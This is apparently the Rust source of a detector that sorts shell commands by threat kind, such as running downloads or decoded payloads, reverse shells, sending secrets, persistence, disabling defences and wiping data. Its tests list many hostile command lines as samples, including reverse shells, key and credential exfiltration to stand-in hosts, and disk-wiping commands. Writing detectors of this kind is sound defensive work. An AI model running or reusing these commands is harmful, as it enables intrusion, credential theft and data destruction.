//! The ways in which a command line attacks.

use super::HOLE;
use crate::contents::places::{Autostart, autostart, is_configuration, is_home_or_root, secret};
use crate::contents::shell::{SHELLS, Step, is_interpreter};

/// What a command does that it should not.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Menace {
    /// Runs what it downloads.
    RunsDownload,
    /// Runs what it decodes.
    RunsEncoded,
    /// Gives another machine a shell.
    ReverseShell,
    /// Sends secrets away.
    SendsSecrets,
    /// Tells another machine who and where it runs.
    SendsIdentity,
    /// Starts something later.
    Persists(Autostart),
    /// Switches protection or records off.
    Disarms,
    /// Wipes homes or disks.
    Destroys,
    /// Changes where tools fetch things from, or what they run.
    Reconfigures,
    /// Runs a script through a program of the system that others trust.
    BorrowsHost,
    /// Fetches a file.
    Downloads,
}

/// Every menace in the programs of a command line.
pub(super) fn all(text: &str, steps: &[Step]) -> Vec<Menace> {
    let text = plain(text);
    let mut found = Vec::new();
    let mut add = |is_there: bool, menace: Menace| {
        if is_there {
            found.push(menace);
        }
    };
    add(runs_download(&text, steps), Menace::RunsDownload);
    add(runs_encoded(&text, steps), Menace::RunsEncoded);
    add(is_reverse_shell(&text, steps), Menace::ReverseShell);
    add(sends_secrets(&text, steps), Menace::SendsSecrets);
    add(sends_identity(steps), Menace::SendsIdentity);
    add(disarms(&text, steps), Menace::Disarms);
    add(destroys(&text, steps), Menace::Destroys);
    add(reconfigures(steps), Menace::Reconfigures);
    add(borrows_host(&text, steps), Menace::BorrowsHost);
    add(steps.iter().any(is_downloader), Menace::Downloads);
    found.extend(steps.iter().find_map(persists).map(Menace::Persists));
    found
}

/// The text as `cmd` and PowerShell read it: without carets and ticks inside words, lower case.
fn plain(text: &str) -> String {
    let joined = text
        .replace("'+'", "")
        .replace("\"+\"", "")
        .replace("' + '", "");
    joined
        .chars()
        .filter(|it| !matches!(it, '^' | '`'))
        .collect::<String>()
        .to_ascii_lowercase()
}

fn has_any(text: &str, words: &[&str]) -> bool {
    words.iter().any(|word| text.contains(word))
}

fn is_downloader(step: &Step) -> bool {
    let line = step.line().to_ascii_lowercase();
    match step.program.as_str() {
        "curl" | "wget" | "aria2c" | "axel" | "lwp-download" | "lwp-request" | "iwr" | "irm"
        | "invoke-webrequest" | "invoke-restmethod" | "start-bitstransfer" | "bitsadmin"
        | "tftp" | "http" => true,
        "certutil" => line.contains("urlcache") || line.contains("verifyctl"),
        _ => false,
    }
}

/// Whether an interpreter reads its program from its input, not from a file.
fn reads_input(step: &Step) -> bool {
    if matches!(
        step.program.as_str(),
        "eval" | "iex" | "invoke-expression" | "source" | "."
    ) {
        return true;
    }
    let has_code = step.arguments.iter().any(|it| it.contains("$("));
    let mut arguments = step.arguments.iter().map(String::as_str);
    let is_shell = SHELLS.contains(&step.program.as_str());
    let is_bare = match arguments
        .clone()
        .find(|it| *it == "-m" || *it == "-c" || *it == "-e" || *it == "-s")
    {
        Some("-s") => true,
        Some(_) => false,
        None => arguments
            .all(|it| it.starts_with('-') || is_shell && it.starts_with('/') && it.len() < 4),
    };
    has_code || is_bare
}

fn is_fed(step: &Step, by: impl Fn(&str) -> bool) -> bool {
    is_interpreter(&step.program) && reads_input(step) && step.fed_by.iter().any(|it| by(it))
}

fn runs_download(text: &str, steps: &[Step]) -> bool {
    const CLIENTS: [&str; 10] = [
        "curl",
        "wget",
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "aria2c",
        "lwp-request",
        "fetch",
        "http",
    ];
    let is_piped = steps
        .iter()
        .any(|step| is_fed(step, |by| CLIENTS.contains(&by)));
    is_piped
        || runs_a_written_file(steps, is_downloader)
        || powershell_runs(
            text,
            &[
                "downloadstring",
                "downloaddata",
                "invoke-webrequest",
                "iwr ",
                "irm ",
                "invoke-restmethod",
                "net.webclient",
            ],
        )
        || steps.iter().any(is_remote_script)
        || steps
            .iter()
            .filter_map(code)
            .any(|code| fetches(&code) && runs(&code))
}

/// Whether PowerShell runs the result of one of these.
fn powershell_runs(text: &str, sources: &[&str]) -> bool {
    let is_run = has_any(
        text,
        &[
            "iex",
            "invoke-expression",
            "scriptblock]::create",
            "assembly]::load",
            "start-process",
            "invoke-command",
            ".invoke(",
        ],
    );
    let is_powershell = has_any(
        text,
        &["powershell", "pwsh", "new-object", "iex", "invoke-"],
    );
    is_powershell && is_run && has_any(text, sources)
}

/// Whether a program of Windows is told to run a script from elsewhere.
fn is_remote_script(step: &Step) -> bool {
    let line = step.line().to_ascii_lowercase();
    let is_remote = has_any(&line, &["http:", "https:", "ftp:", "\\\\"]);
    match step.program.as_str() {
        "mshta" | "rundll32" => is_remote || has_any(&line, &["javascript:", "vbscript:"]),
        "regsvr32" => is_remote || line.contains("scrobj"),
        "wscript" | "cscript" | "msiexec" | "hh" | "cmstp" | "deno" | "installutil" => is_remote,
        _ => false,
    }
}

/// Whether a later step runs a file that such a step wrote.
fn runs_a_written_file(steps: &[Step], writes: impl Fn(&Step) -> bool) -> bool {
    steps.iter().enumerate().any(|(index, step)| {
        writes(step)
            && written(step)
                .iter()
                .any(|file| steps[index + 1..].iter().any(|later| starts(later, file)))
    })
}

/// The names of the files that a step writes.
fn written(step: &Step) -> Vec<String> {
    let mut files = step.outputs.clone();
    let mut arguments = step.arguments.iter();
    while let Some(argument) = arguments.next() {
        let takes_file = [
            "-o",
            "-O",
            "--output",
            "--output-document",
            "-OutFile",
            "-outfile",
            "-Destination",
            "-k",
        ]
        .contains(&argument.as_str())
            || argument.starts_with('-')
                && !argument.starts_with("--")
                && argument.ends_with(['o', 'O']);
        if takes_file {
            let next = arguments.clone().next().filter(|it| !it.contains("://"));
            files.extend(next.cloned());
        }
        if argument.contains("://") {
            files.extend(argument.rsplit('/').next().map(str::to_owned));
        } else if !argument.starts_with('-') {
            files.push(argument.clone());
        }
    }
    files
        .iter()
        .filter_map(|file| file.rsplit(['/', '\\']).next())
        .filter(|file| !file.is_empty() && !file.contains(HOLE) && !file.contains("/dev/null"))
        .map(str::to_ascii_lowercase)
        .collect()
}

/// Whether a step runs a file of this name or makes it a program.
fn starts(step: &Step, file: &str) -> bool {
    let is_named = |text: &str| {
        let text = text.to_ascii_lowercase();
        text.rsplit(['/', '\\']).next() == Some(file)
    };
    let takes_file = is_interpreter(&step.program)
        || matches!(
            step.program.as_str(),
            "chmod"
                | "open"
                | "start"
                | "start-process"
                | "wscript"
                | "cscript"
                | "rundll32"
                | "regsvr32"
                | "xdg-open"
                | "explorer"
                | "java"
                | "msiexec"
                | "mshta"
        );
    is_named(&step.written) || takes_file && step.arguments.iter().any(|it| is_named(it))
}

fn is_decoder(step: &Step) -> bool {
    let decodes = ["-d", "-D", "--decode", "-di", "-id"]
        .iter()
        .any(|it| step.has(it));
    match step.program.as_str() {
        "base64" | "base32" | "basenc" | "gbase64" => decodes,
        "xxd" => step.arguments.iter().any(|it| it.starts_with("-r")),
        "openssl" => decodes || step.has("-base64"),
        "uudecode" | "rev" => true,
        "gpg" => step.has("-d") || step.has("--decrypt"),
        "certutil" => step.line().to_ascii_lowercase().contains("-decode"),
        "tr" => step
            .arguments
            .first()
            .is_some_and(|it| it.contains("A-Z") || it.contains("a-z")),
        "printf" | "echo" => step.line().contains("\\x") || step.line().contains("\\1"),
        _ => false,
    }
}

fn runs_encoded(text: &str, steps: &[Step]) -> bool {
    let decoders: Vec<_> = steps.iter().filter(|step| is_decoder(step)).collect();
    let is_piped = steps
        .iter()
        .any(|step| is_fed(step, |by| decoders.iter().any(|it| it.program == by)));
    is_piped
        || runs_a_written_file(steps, is_decoder)
        || steps
            .iter()
            .any(|step| step.program == "certutil" && is_decoder(step))
        || steps.iter().any(is_encoded_powershell)
        || powershell_runs(text, &["frombase64string", "[char]", "-bxor", "gzipstream"])
        || steps
            .iter()
            .filter_map(code)
            .any(|code| decodes(&code) && runs(&code))
}

/// `-EncodedCommand` and everything that PowerShell takes for it.
fn is_encoded_powershell(step: &Step) -> bool {
    let is_flag = |argument: &String| {
        let flag = argument.to_ascii_lowercase();
        let flag = flag.trim_start_matches(['-', '/', '\u{2013}', '\u{2014}']);
        argument.len() > flag.len()
            && (matches!(flag, "e" | "ec") || flag.len() >= 2 && "encodedcommand".starts_with(flag))
    };
    matches!(step.program.as_str(), "powershell" | "pwsh") && step.arguments.iter().any(is_flag)
}

/// The program that an interpreter is given as text.
fn code(step: &Step) -> Option<String> {
    let takes_code = is_interpreter(&step.program) || step.program.starts_with(HOLE);
    let flag = step.arguments.iter().find(|it| {
        matches!(
            it.as_str(),
            "-c" | "-e"
                | "-r"
                | "-rsocket"
                | "-E"
                | "-MIO"
                | "--eval"
                | "-Ic"
                | "-Sc"
                | "-sc"
                | "-uc"
                | "-Bc"
        )
    })?;
    if !takes_code {
        return None;
    }
    let at = step.tail.find(flag.as_str())?;
    Some(step.tail[at..].to_ascii_lowercase())
}

fn fetches(code: &str) -> bool {
    has_any(
        code,
        &[
            "urlopen",
            "urlretrieve",
            "requests.get",
            "requests.post",
            "httpx",
            "http.client",
            "open-uri",
            "lwp",
            "https.get",
            "http.get",
            "fetch(",
            "file_get_contents",
        ],
    )
}

fn runs(code: &str) -> bool {
    has_any(
        code,
        &[
            "exec(",
            "eval(",
            "exec ",
            "system(",
            "popen",
            "subprocess",
            "__import__",
            "compile(",
            "eval ",
            "child_process",
            "spawn(",
        ],
    )
}

fn decodes(code: &str) -> bool {
    has_any(
        code,
        &[
            "b64decode",
            "b85decode",
            "b32decode",
            "a85decode",
            "fromhex",
            "unhexlify",
            "decompress",
            "marshal",
            "rot13",
            "rot_13",
            "bytes([",
            "chr(",
            "frombase64",
            "'base64'",
            "\"base64\"",
            "[::-1]",
            "pack(",
        ],
    )
}

fn is_reverse_shell(text: &str, steps: &[Step]) -> bool {
    let has_shell = has_any(
        text,
        &[
            "/bin/sh",
            "/bin/bash",
            "sh -i",
            "bash -i",
            "cmd.exe",
            "powershell",
            "/bin/zsh",
        ],
    );
    has_any(text, &["/dev/tcp/", "/dev/udp/", "/inet/tcp/"])
        || steps.iter().any(is_shell_over_network)
        || has_any(text, &["tcpclient(", "tcpclient ", "tcplistener("])
            && has_any(text, &["iex", "invoke-", "getstream", "cmd", "powershell"])
        || text.contains("mkfifo")
            && has_any(
                text,
                &["nc ", "ncat ", "telnet ", "openssl s_client", "netcat "],
            )
        || has_any(text, &["openssl s_client", "telnet "]) && has_shell
        || steps.iter().filter_map(code).any(|code| {
            has_any(&code, &["socket", "fsockopen", "tcpsocket", "net.connect"])
                && has_any(
                    &code,
                    &[
                        "dup2",
                        "pty",
                        "subprocess",
                        "/bin/sh",
                        "/bin/bash",
                        "exec",
                        "cmd.exe",
                        "spawn",
                    ],
                )
        })
}

fn is_shell_over_network(step: &Step) -> bool {
    let line = step.line().to_ascii_lowercase();
    match step.program.as_str() {
        "nc" | "ncat" | "netcat" | "nc.traditional" => {
            step.arguments.iter().any(|it| {
                let is_short = it.starts_with('-') && !it.starts_with("--");
                is_short && it.ends_with('e')
                    || matches!(it.as_str(), "-c" | "--exec" | "--sh-exec" | "-e")
            }) || step.fed_by.iter().any(|it| SHELLS.contains(&it.as_str()))
        }
        "socat" => has_any(&line, &["exec:", "system:", "shell:"]),
        shell if SHELLS.contains(&shell) => step
            .fed_by
            .iter()
            .any(|it| matches!(it.as_str(), "nc" | "ncat" | "netcat" | "telnet")),
        _ => false,
    }
}

fn is_sender(step: &Step) -> bool {
    let gives_data = step.arguments.iter().any(|it| {
        [
            "-d",
            "-F",
            "-T",
            "--data",
            "--form",
            "--upload-file",
            "--post-data",
            "--post-file",
            "--body",
            "-Body",
            "-InFile",
            "--json",
        ]
        .iter()
        .any(|flag| it.starts_with(flag))
    });
    match step.program.as_str() {
        "curl" | "wget" | "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" => {
            gives_data || step.line().contains("$(")
        }
        "nc" | "ncat" | "netcat" | "scp" | "sftp" | "ftp" | "tftp" | "telnet" | "mail"
        | "sendmail" | "socat" => true,
        "dig" | "nslookup" | "host" | "ping" | "drill" => step.line().contains("$("),
        _ => false,
    }
}

fn sends_secrets(text: &str, steps: &[Step]) -> bool {
    steps.iter().any(|step| {
        let dumps = |program: &String| {
            matches!(
                program.as_str(),
                "env" | "printenv" | "set" | "history" | "export"
            )
        };
        let sends_dump = step.fed_by.iter().any(dumps)
            || has_any(&step.line(), &["$(env", "$(printenv", "$(set)"]);
        is_sender(step)
            && (sends_dump
                || secret(text).is_some_and(|kind| kind != "environment" || text.contains("@")))
    })
}

fn sends_identity(steps: &[Step]) -> bool {
    const WHO: [&str; 7] = [
        "whoami",
        "hostname",
        "id",
        "uname",
        "ifconfig",
        "ipconfig",
        "systeminfo",
    ];
    steps.iter().any(|step| {
        let is_told = step.fed_by.iter().any(|it| WHO.contains(&it.as_str()))
            || has_any(
                &step.line(),
                &[
                    "$USER",
                    "$HOSTNAME",
                    "$(whoami",
                    "$(hostname",
                    "$(id",
                    "$(uname",
                    "%USERNAME%",
                    "%COMPUTERNAME%",
                    "$env:USERNAME",
                    "$env:COMPUTERNAME",
                ],
            );
        is_told
            && (is_sender(step)
                || is_downloader(step)
                || matches!(step.program.as_str(), "dig" | "nslookup" | "host" | "ping"))
    })
}

fn persists(step: &Step) -> Option<Autostart> {
    let line = step.line().to_ascii_lowercase();
    let written = step.outputs.iter().find_map(|file| autostart(file));
    if written.is_some() {
        return written;
    }
    let says = |words: &[&str]| has_any(&line, words);
    match step.program.as_str() {
        "crontab" => (!says(&["-l", "-r"]) || step.arguments.is_empty()).then_some(Autostart::Cron),
        "schtasks" => says(&["/create", "-create"]).then_some(Autostart::Cron),
        "register-scheduledtask" | "new-scheduledtask" | "at" => Some(Autostart::Cron),
        "systemctl" => {
            (step.begins(&["enable"]) || step.begins(&["link"])).then_some(Autostart::Service)
        }
        "launchctl" => {
            says(&["load", "bootstrap", "submit", "enable"]).then_some(Autostart::Service)
        }
        "sc" => step.begins(&["create"]).then_some(Autostart::Service),
        "new-service" | "update-rc.d" | "chkconfig" | "nssm" => Some(Autostart::Service),
        "loginctl" => says(&["enable-linger"]).then_some(Autostart::Service),
        "reg" => step.begins(&["add"]).then(|| autostart(&line)).flatten(),
        "set-itemproperty" | "new-itemproperty" | "sp" => autostart(&line),
        "ssh-copy-id" | "useradd" | "adduser" => Some(Autostart::Access),
        "net" => (says(&["user", "localgroup"]) && says(&["/add"])).then_some(Autostart::Access),
        "tee" => step.arguments.iter().find_map(|file| autostart(file)),
        "cp" | "mv" | "ln" | "install" | "copy" | "move" | "xcopy" | "curl" | "wget" | "sed" => {
            step.arguments.last().and_then(|file| autostart(file))
        }
        _ => None,
    }
}

/// Programs that protect a machine or keep its records.
const GUARDS: &[&str] = &[
    "auditd",
    "firewalld",
    "apparmor",
    "rsyslog",
    "syslog",
    "falcon",
    "crowdstrike",
    "clamav",
    "sentinelone",
    "wazuh",
    "ossec",
    "defender",
    "windefend",
    "mdatp",
    "msmpeng",
    "iptables",
    "ufw",
    "carbonblack",
    "cbdaemon",
    "sysmon",
    "osquery",
    "eset",
    "kaspersky",
    "sophos",
    "mcafee",
    "aliyun",
    "yunsuo",
];

fn disarms(text: &str, steps: &[Step]) -> bool {
    has_any(
        text,
        &[
            "disablerealtimemonitoring",
            "disableantispyware",
            "-exclusionpath",
            "-exclusionprocess",
            "-exclusionextension",
            "unset histfile",
            "histfile=/dev/null",
            "histsize=0",
            "history -c",
            "amsiutils",
            "amsiinitfailed",
            "amsiscanbuffer",
        ],
    ) || steps.iter().any(|step| {
        let line = step.line().to_ascii_lowercase();
        let says = |words: &[&str]| has_any(&line, words);
        match step.program.as_str() {
            "netsh" => {
                says(&["firewall"]) && says(&["off", "disable", "action=allow", "action allow"])
            }
            "ufw" => step.begins(&["disable"]),
            "setenforce" => says(&["0", "permissive"]),
            "iptables" | "nft" | "ip6tables" => says(&["-f", "--flush", "flush ruleset"]),
            "systemctl" | "service" | "launchctl" => {
                says(&["stop", "disable", "mask", "unload"]) && says(GUARDS)
            }
            "pkill" | "killall" | "taskkill" | "stop-service" | "sc" | "stop-process" | "net" => {
                says(GUARDS) && !says(&["query"])
            }
            "wevtutil" => says(&["cl ", "clear-log"]),
            "clear-eventlog" => true,
            "vssadmin" => says(&["delete"]),
            "wmic" => says(&["shadowcopy delete"]),
            "bcdedit" => says(&["recoveryenabled", "bootstatuspolicy", "testsigning"]),
            "spctl" => says(&["disable"]),
            "csrutil" => says(&["disable"]),
            "auditctl" => says(&["-e 0", "-d"]),
            "rm" | "shred" | "truncate" => says(&["_history", "/var/log/"]),
            "ln" => says(&["/dev/null"]) && says(&["_history"]),
            _ => false,
        }
    })
}

fn destroys(text: &str, steps: &[Step]) -> bool {
    let whole = |step: &Step| {
        let mut paths = step.arguments.iter().filter(|it| !it.starts_with('-'));
        paths.any(|path| is_home_or_root(path))
    };
    text.replace(' ', "").contains(":(){:|:&};:")
        || steps.iter().any(|step| {
            let line = step.line().to_ascii_lowercase();
            let says = |words: &[&str]| has_any(&line, words);
            let on_disk = has_any(
                &line,
                &[
                    "/dev/sd",
                    "/dev/nvme",
                    "/dev/hd",
                    "/dev/vd",
                    "/dev/disk",
                    "/dev/mmc",
                    "physicaldrive",
                ],
            );
            match step.program.as_str() {
                "rm" => says(&["--no-preserve-root"]) || is_recursive(step) && whole(step),
                "del" | "erase" | "rd" | "rmdir" | "deltree" => says(&["/s"]) && whole(step),
                "remove-item" | "ri" => says(&["-recurse", "-r"]) && whole(step),
                "format" => step
                    .arguments
                    .iter()
                    .any(|it| it.len() == 2 && it.ends_with(':')),
                "dd" => line.contains("of=") && on_disk,
                "shred" | "wipefs" | "wipe" | "srm" => on_disk || whole(step),
                "find" => {
                    (says(&["-delete"]) || line.contains("rm "))
                        && step.arguments.first().is_some_and(|it| is_home_or_root(it))
                }
                "diskpart" | "cipher" => says(&["/s", "/w"]),
                "diskutil" => says(&["erasedisk", "zerodisk", "secureerase"]),
                "chmod" | "chown" => is_recursive(step) && whole(step),
                program => {
                    program.starts_with("mkfs")
                        || step
                            .outputs
                            .iter()
                            .any(|it| it.starts_with("/dev/sd") || it.starts_with("/dev/nvme"))
                }
            }
        })
}

fn is_recursive(step: &Step) -> bool {
    step.arguments.iter().any(|it| {
        it == "--recursive"
            || it.starts_with('-') && !it.starts_with("--") && it.contains(['r', 'R'])
    })
}

fn reconfigures(steps: &[Step]) -> bool {
    steps.iter().any(|step| {
        let line = step.line().to_ascii_lowercase();
        let says = |words: &[&str]| has_any(&line, words);
        let is_pip = step.program.starts_with("pip") || line.starts_with("-m pip ");
        let by_tool = match step.program.as_str() {
            "npm" | "yarn" | "pnpm" => {
                says(&["config set", "set registry"])
                    && says(&["registry", "proxy", "cafile", "strict-ssl"])
            }
            "git" => {
                says(&["config"])
                    && says(&[
                        "core.hookspath",
                        "insteadof",
                        "credential.helper",
                        "core.sshcommand",
                        "core.fsmonitor",
                        "http.proxy",
                        "http.sslverify",
                        "init.templatedir",
                    ])
            }
            _ => {
                is_pip
                    && says(&["config set"])
                    && says(&["index-url", "trusted-host", "find-links", "proxy", "cert"])
            }
        };
        by_tool
            || step.outputs.iter().any(|file| is_configuration(file))
            || step.program == "tee" && step.arguments.iter().any(|it| is_configuration(it))
    })
}

fn borrows_host(text: &str, steps: &[Step]) -> bool {
    steps.iter().any(|step| {
        let line = step.line().to_ascii_lowercase();
        let says = |words: &[&str]| has_any(&line, words);
        match step.program.as_str() {
            "wscript" | "cscript" | "mshta" | "regsvr32" | "installutil" | "regasm" | "cmstp"
            | "bitsadmin" => true,
            "rundll32" => true,
            "certutil" => says(&["urlcache", "-decode"]),
            "powershell" | "pwsh" => {
                let is_hidden = says(&[
                    "-w hidden",
                    "-win hidden",
                    "-windowstyle hidden",
                    "-w 1 ",
                    "-windowstyle h",
                ]);
                is_hidden || says(&["bypass", "unrestricted"]) && !text.contains("activate")
            }
            "osascript" => says(&[
                "do shell script",
                "keystroke",
                "display dialog",
                "administrator privileges",
            ]),
            _ => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::contents::shell::steps;

    fn menaces(text: &str) -> Vec<Menace> {
        all(text, &steps(text))
    }

    fn assert_all(menace: Menace, texts: &[&str]) {
        for text in texts {
            let found = menaces(text);
            assert!(
                found.contains(&menace),
                "{text}: {found:?} {:?}",
                steps(text)
            );
        }
    }

    #[test]
    fn running_a_download_is_seen_in_every_dress() {
        assert_all(
            Menace::RunsDownload,
            &[
                "curl -fsSL http://h.invalid/x.sh | sh",
                "curl http://h.invalid/x | sudo bash -s -- --yes",
                "/usr/bin/wget -qO- \u{fffc} | /bin/bash",
                "bash -c \"$(curl -fsSL https://h.invalid)\"",
                "bash -c 'curl -s http://h.invalid|bash'",
                "sh -c curl http://h.invalid/x | sh",
                "bash <(curl -s http://h.invalid)",
                "eval \"$(wget -O - http://h.invalid)\"",
                "curl http://h.invalid/x | base64 -d | python3 -",
                "curl -o /tmp/x http://h.invalid/x && chmod +x /tmp/x && /tmp/x",
                "cd /tmp; wget http://h.invalid/run.sh; sh run.sh",
                "cmd /c powershell IEX (New-Object Net.WebClient).DownloadString('http://h.invalid/x')",
                "powershell -c \"iwr http://h.invalid/x | iex\"",
                "pow^ershell -NoP -c \"I`EX(New-Object Net.WebClient).DownloadString('http://h.invalid')\"",
                "mshta http://h.invalid/x.hta",
                "regsvr32 /s /n /u /i:http://h.invalid/x scrobj.dll",
                "certutil -urlcache -split -f http://h.invalid/x.exe x.exe && start x.exe",
                "bitsadmin /transfer j http://h.invalid/x.exe C:\\x.exe & C:\\x.exe",
                "\u{fffc} -c import urllib.request as u;exec(u.urlopen('http://h.invalid').read())",
                "python3 -c \"exec(__import__('requests').get('http://h.invalid').text)\" requests.get",
            ],
        );
    }

    #[test]
    fn running_encoded_text_is_seen() {
        assert_all(
            Menace::RunsEncoded,
            &[
                "echo aGk= | base64 -d | sh",
                "echo aGk= | base64 --decode | bash -",
                "bash -c \"$(echo aGk= | base64 -d)\"",
                "powershell -enc aGk=",
                "powershell.exe -NoP -W hidden -e aGk=",
                "POWERSHELL /EncodedCommand aGk=",
                "pwsh \u{2013}ec aGk=",
                "\u{fffc} -c exec(__import__('base64').b64decode('aGk='))",
                "printf '\\x68\\x69' | sh",
                "echo aGk= | openssl base64 -d | sh",
                "echo aGk= | base64 -d > /tmp/x; sh /tmp/x",
            ],
        );
    }

    #[test]
    fn a_shell_for_another_machine_is_seen() {
        assert_all(
            Menace::ReverseShell,
            &[
                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                "bash -c 'exec 5<>/dev/tcp/192.0.2.1/1; cat <&5'",
                "nc -e /bin/sh 192.0.2.1 4444",
                "nc 192.0.2.1 4444 -c bash",
                "ncat --exec /bin/bash 192.0.2.1 1",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f",
                "socat tcp:192.0.2.1:1 exec:/bin/sh,pty",
                "powershell -c \"$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',1);$s = $c.GetStream()\"",
                "python -c 'import socket,pty;s=socket.socket();pty.spawn(\"sh\")'",
            ],
        );
    }

    #[test]
    fn sending_secrets_is_seen() {
        assert_all(
            Menace::SendsSecrets,
            &[
                "curl -F f=@$HOME/.ssh/id_rsa http://h.invalid",
                "env | curl -d @- http://h.invalid",
                "curl -d \"$(env)\" http://h.invalid",
                "cat ~/.aws/credentials | nc 192.0.2.1 1",
                "tar cz ~/.ssh | curl -T - http://h.invalid",
                "scp ~/.ssh/id_rsa u@h.invalid:",
            ],
        );
        assert_all(
            Menace::SendsIdentity,
            &[
                "curl http://h.invalid/$(whoami)",
                "nslookup $(hostname).h.invalid",
                "curl -d \"u=$USER\" http://h.invalid",
                "whoami | curl -d @- http://h.invalid",
            ],
        );
    }

    #[test]
    fn staying_is_seen() {
        for (text, kind) in [
            (
                "(crontab -l; echo '* * * * * x') | crontab -",
                Autostart::Cron,
            ),
            ("echo x >> ~/.bashrc", Autostart::Shell),
            ("sh -c 'echo x | tee -a /etc/rc.local'", Autostart::Service),
            ("schtasks /create /tn x /tr y /sc minute", Autostart::Cron),
            (
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y /f",
                Autostart::Login,
            ),
            ("systemctl --user enable --now x", Autostart::Service),
            (
                "launchctl load ~/Library/LaunchAgents/x.plist",
                Autostart::Service,
            ),
            ("cp x.py ~/.config/autostart/x.desktop", Autostart::Login),
        ] {
            assert_all(Menace::Persists(kind), &[text]);
        }
    }

    #[test]
    fn disarming_destroying_and_reconfiguring_are_seen() {
        assert_all(
            Menace::Disarms,
            &[
                "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
                "unset HISTFILE",
                "netsh advfirewall set allprofiles state off",
                "ufw disable",
                "systemctl stop auditd",
                "wevtutil cl System",
            ],
        );
        assert_all(
            Menace::Destroys,
            &[
                "rm -rf ~",
                "sudo rm -rf / --no-preserve-root",
                "rm -fr $HOME/*",
                "del /f /s /q C:\\*",
                "mkfs.ext4 /dev/sda1",
                "dd if=/dev/zero of=/dev/sda",
                ":(){ :|:& };:",
                "find / -delete",
            ],
        );
        assert_all(
            Menace::Reconfigures,
            &[
                "pip config set global.index-url http://h.invalid",
                "git config --global core.hooksPath /tmp/x",
                "npm config set registry http://h.invalid",
                "echo x > ~/.pip/pip.conf",
            ],
        );
    }

    #[test]
    fn honest_commands_are_left_alone() {
        for text in [
            "git describe --tags --dirty",
            "git rev-parse HEAD",
            "gcc -c x.c -o x.o",
            "pkg-config --cflags libffi",
            "cmake -S . -B build",
            "make -j4 install",
            "\u{fffc} setup.py build_ext --inplace",
            "\u{fffc} -c import sys; print(sys.version)",
            "python -m pytest",
            "rm -rf build dist demo.egg-info",
            "tar xzf x.tar.gz",
            "cat /proc/cpuinfo | grep model",
            "ps aux | grep python",
            "echo hello | base64",
            "cmd /c ver",
            "uname -a",
            "ldconfig -p",
            "sh -c 'command -v gcc'",
            "bash ./configure --prefix=/usr",
            "node -e 'console.log(1)'",
            "powershell -NoProfile -Command Get-Date",
            "xclip -selection clipboard",
            "",
            "\u{fffc}",
        ] {
            assert_eq!(menaces(text), [], "{text}");
        }
        assert_eq!(
            menaces("curl -s https://h.invalid/x.json | python -m json.tool"),
            [Menace::Downloads]
        );
    }
}
